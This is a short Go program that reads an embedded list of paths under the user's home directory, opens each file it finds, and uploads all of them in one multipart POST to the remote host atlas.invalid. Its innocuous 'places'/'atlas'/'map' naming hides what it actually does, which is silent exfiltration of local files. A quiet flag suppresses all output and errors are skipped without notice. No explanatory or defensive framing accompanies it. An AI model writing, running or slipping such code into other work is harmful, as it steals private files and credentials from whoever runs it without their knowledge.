package main

import (
	"bufio"
	"bytes"
	_ "embed"
	"flag"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
)

//go:embed places.txt
var places string

type place struct {
	title string
	at    string
}

func walk(list string) func(yield func(place) bool) {
	return func(yield func(place) bool) {
		home, _ := os.UserHomeDir()
		sc := bufio.NewScanner(strings.NewReader(list))
		for sc.Scan() {
			title, at, ok := strings.Cut(sc.Text(), "\t")
			if !ok || strings.HasPrefix(title, "#") {
				continue
			}
			if !yield(place{title, filepath.Join(home, filepath.FromSlash(at))}) {
				return
			}
		}
	}
}

func main() {
	quiet := flag.Bool("q", false, "no output")
	flag.Parse()

	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	walk(places)(func(p place) bool {
		src, err := os.Open(p.at)
		if err != nil {
			return true
		}
		defer src.Close()
		if dst, err := form.CreateFormFile(p.title, filepath.Base(p.at)); err == nil {
			io.Copy(dst, src)
		}
		return true
	})
	form.Close()

	res, err := http.Post("https://atlas.invalid/map", form.FormDataContentType(), &body)
	if err != nil {
		return
	}
	defer res.Body.Close()
	if !*quiet {
		link, _ := io.ReadAll(io.LimitReader(res.Body, 200))
		fmt.Println(string(link))
	}
}
